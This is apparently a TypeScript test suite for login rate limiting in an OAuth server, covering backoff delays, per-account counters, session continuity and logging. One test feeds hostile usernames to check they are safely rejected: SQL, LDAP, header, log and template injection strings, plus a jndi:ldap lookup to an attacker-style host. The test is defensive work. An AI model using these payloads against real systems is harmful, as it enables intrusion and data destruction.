import t, { type Test } from 'tap';
import { ok } from '../../src/oauth/result.js';
import { openHasher } from '../../src/passwords/hasher.js';
import { PASSWORD, PROVIDERS, type TestIssuer } from '../helper.js';
import { asBearer, postForm } from '../http/support.js';
import { assertError, assertTokens, issuerWithClients, refresh } from '../rfc/setup.js';
import { assertBlocked, eventsIn, guess, guessWrongly, logInFrom, STRANGER } from './support.js';

const SECOND = 1000;
/** The owner's, where no guess comes from. */
const HOME = '198.51.100.7';
const FEW = { failuresPerAccount: 3, failuresPerAddress: 0, windowSeconds: 60 };

async function delays(t: Test, issuer: TestIssuer): Promise<void> {
  const { clock } = issuer;
  await guessWrongly(t, issuer, 10);
  for (const wait of [10, 20, 40, 80, 160, 320, 640, 900, 900]) {
    assertBlocked(t, await guess(issuer), wait, `a wait of ${wait} s`);
    assertBlocked(t, await logInFrom(issuer, STRANGER), wait, 'a right password waits as well');
    clock.now += wait * SECOND - 1;
    assertBlocked(t, await guess(issuer), 1, 'up to its last moment, and being refused prolongs nothing');
    clock.now += 1;
    assertError(t, await guess(issuer), 400, 'invalid_grant', `after ${wait} s one more`);
  }
  clock.now += 900 * SECOND;
  assertTokens(t, await logInFrom(issuer, HOME), 'the right one, when the wait is over');
  await guessWrongly(t, issuer, 10);
  assertBlocked(t, await guess(issuer), 10, 'a success had cleared the counter');
}

/** What somebody sees who guesses at a name, until long after it is blocked. */
async function seenAt(issuer: TestIssuer, username: string) {
  const seen: unknown[] = [];
  for (const wait of [0, 0, 0, 0, 9, 1, 0, 20, 0, 40]) {
    issuer.clock.now += wait * SECOND;
    const { status, headers, body } = await guess(issuer, username);
    const { date: _, 'x-request-id': __, ...rest } = headers;
    seen.push({ status, headers: rest, body });
  }
  return seen;
}

function counters(t: Test, issuer: TestIssuer): void {
  t.test('names nobody has, and what is no name, are counted like others', async (t) => {
    const off = await issuer.addUser({ username: 'off' });
    await issuer.users.disable(off, issuer.clock.now);
    await issuer.addUser({ username: 'eve' });
    const known = await seenAt(issuer, 'eve');
    t.match(
      known,
      [400, 400, 400, 429, 429, 400, 429, 400, 429, 400].map((status) => ({ status })),
    );
    for (const name of ['nobody', 'nobody@example.com', 'off', 'no\0name', 'x'.repeat(129), '\u200b']) {
      t.strictSame(await seenAt(issuer, name), known, JSON.stringify(name.slice(0, 20)));
    }
  });

  t.test('a disabled user with the right password fails like others', async (t) => {
    const id = await issuer.addUser({ username: 'away' });
    await issuer.users.disable(id, issuer.clock.now);
    for (let i = 0; i < 3; i++) {
      assertError(t, await logInFrom(issuer, STRANGER, { username: 'away' }), 400, 'invalid_grant');
    }
    assertBlocked(t, await logInFrom(issuer, STRANGER, { username: 'away' }), 10, 'the fourth');
  });

  t.test('however a name is written, it has one counter', async (t) => {
    await issuer.addUser({ username: 'José' });
    for (const name of ['JOSÉ', 'jose\u0301', 'ＪＯＳé']) await guessWrongly(t, issuer, 1, name);
    for (const name of ['José', 'josé', 'JOSE\u0301']) assertBlocked(t, await guess(issuer, name), 10, name);
  });

  // By design: with one counter for both, a block would tell which address belongs to which name.
  t.test('the name and the e-mail address of a user have a counter each', async (t) => {
    await issuer.addUser({ username: 'grace', email: 'hopper@example.com' });
    await guessWrongly(t, issuer, 3, 'grace');
    assertBlocked(t, await guess(issuer, 'grace'), 10, 'the name');
    await guessWrongly(t, issuer, 3, 'hopper@example.com');
    assertBlocked(t, await guess(issuer, 'hopper@example.com'), 10, 'the address');
  });
}

function besides(t: Test, issuer: TestIssuer): void {
  t.test('whoever is logged in notices nothing while strangers block the account', async (t) => {
    const email = 'owner@example.com';
    await issuer.addUser({ username: 'owner', email });
    const own = (await logInFrom(issuer, HOME, { username: 'owner' })).body;
    await guessWrongly(t, issuer, 3, 'owner');
    assertBlocked(t, await guess(issuer, 'owner'), 10, 'blocked');
    const next = await refresh(issuer, own['refresh_token']);
    assertTokens(t, next, 'a refresh');
    for (const path of ['/userinfo', '/sessions']) {
      t.equal((await asBearer(issuer, 'GET', path, next.body['access_token'])).status, 200, path);
    }
    const authorization = `Bearer ${next.body['access_token']}`;
    const form = { current_password: PASSWORD, new_password: 'a new one, to be safe' };
    t.equal((await postForm(issuer, '/password', form, { authorization })).status, 204, '/password');
    assertTokens(t, await refresh(issuer, next.body['refresh_token']), 'and on it goes');
  });

  t.test('no name breaks anything: one answer, one line in the log, which does not have it', async (t) => {
    const names = [
      `' OR 1=1 --`,
      `ada'; DROP TABLE users; --`,
      '*)(uid=*',
      'ada\r\nSet-Cookie: evil=1',
      '{"level":60,"msg":"forged"}\n{"level":60}',
      '\u001b[2J\u001b[31mroot',
      '\u202eada',
      '\u0024{jndi:ldap://evil.example}',
      '{{7*7}}',
      '%00%0d%0a',
      '__proto__',
      'x'.repeat(10_240),
      '😀'.repeat(128),
      '\ufffd',
    ];
    for (const name of names) {
      const before = issuer.log.length;
      assertError(t, await guess(issuer, name), 400, 'invalid_grant', JSON.stringify(name.slice(0, 30)));
      const lines = issuer.log.slice(before);
      t.equal(lines.filter((line) => line.includes('login_failed')).length, 1, 'one line');
      for (const line of lines) {
        t.equal(line.trimEnd().split(/[\r\n\u2028]/).length, 1, 'that is one line');
        t.notOk(line.includes(name) || line.includes(JSON.stringify(name).slice(1, -1)), 'without the name');
      }
    }
    assertTokens(t, await logInFrom(issuer, HOME), 'and ada is still there');
  });

  t.test('the log says why, which client, from where, and who where there is somebody', async (t) => {
    const userId = await issuer.addUser({ username: 'logged' });
    const line = async (username: string) => {
      await guess(issuer, username);
      const { time: _, requestId: __, level: ___, msg: ____, ...rest } = eventsIn(issuer, 'login_failed').at(-1) ?? {};
      return rest;
    };
    const where = { event: 'login_failed', clientId: 'app', grantType: 'password', address: STRANGER };
    t.strictSame(await line('logged'), { ...where, reason: 'password_wrong', userId });
    t.strictSame(await line('not logged'), { ...where, reason: 'user_unknown' });
    await guessWrongly(t, issuer, 2, 'logged');
    const blocked = { ...where, reason: 'login_blocked', limit: 'account', retryAfterSeconds: 10 };
    t.strictSame(await line('logged'), blocked, 'not even the id: nobody looked');
    const text = issuer.log.join('');
    t.notOk(text.includes(PASSWORD), 'no password');
  });
}

for (const provider of PROVIDERS) {
  t.test(`${provider}: ten guesses are free, then each waits twice as long, up to the window`, async (t) => {
    await delays(t, await issuerWithClients(t, { provider }));
  });

  t.test(`on ${provider}`, async (t) => {
    const issuer = await issuerWithClients(t, { provider, overrides: { accounts: { limits: FEW } } });
    counters(t, issuer);
    besides(t, issuer);
  });
}

t.test('an attempt that finds the queue full does not count', async (t) => {
  const hasher = openHasher({ cost: 4, threads: 1, limits: { atOnce: 1, maxWaiting: 0 } });
  t.teardown(() => hasher.close());
  const issuer = await issuerWithClients(t, { overrides: { accounts: { hasher, limits: FEW } } });
  let finish = () => {};
  const held = new Promise<void>((resolve) => {
    finish = resolve;
  });
  const signal = new AbortController().signal;
  const holding = hasher.inTurn({ account: 'somebody', signal }, async () => ok(await held));
  for (let i = 0; i < 5; i++) {
    const reply = await guess(issuer);
    assertError(t, reply, 503, 'temporarily_unavailable');
    t.equal(reply.headers['retry-after'], '1');
  }
  t.equal(await issuer.database.prisma.loginFailures.count(), 0);
  finish();
  await holding;
  await guessWrongly(t, issuer, 3);
  assertBlocked(t, await guess(issuer), 10, 'the fourth that was looked at');
});

t.test('without limits nothing is counted', async (t) => {
  const limits = { failuresPerAccount: 0, failuresPerAddress: 0, windowSeconds: 60 };
  const issuer = await issuerWithClients(t, { overrides: { accounts: { limits } } });
  await guessWrongly(t, issuer, 20);
  assertTokens(t, await logInFrom(issuer, STRANGER));
  t.equal(await issuer.database.prisma.loginFailures.count(), 0);
});
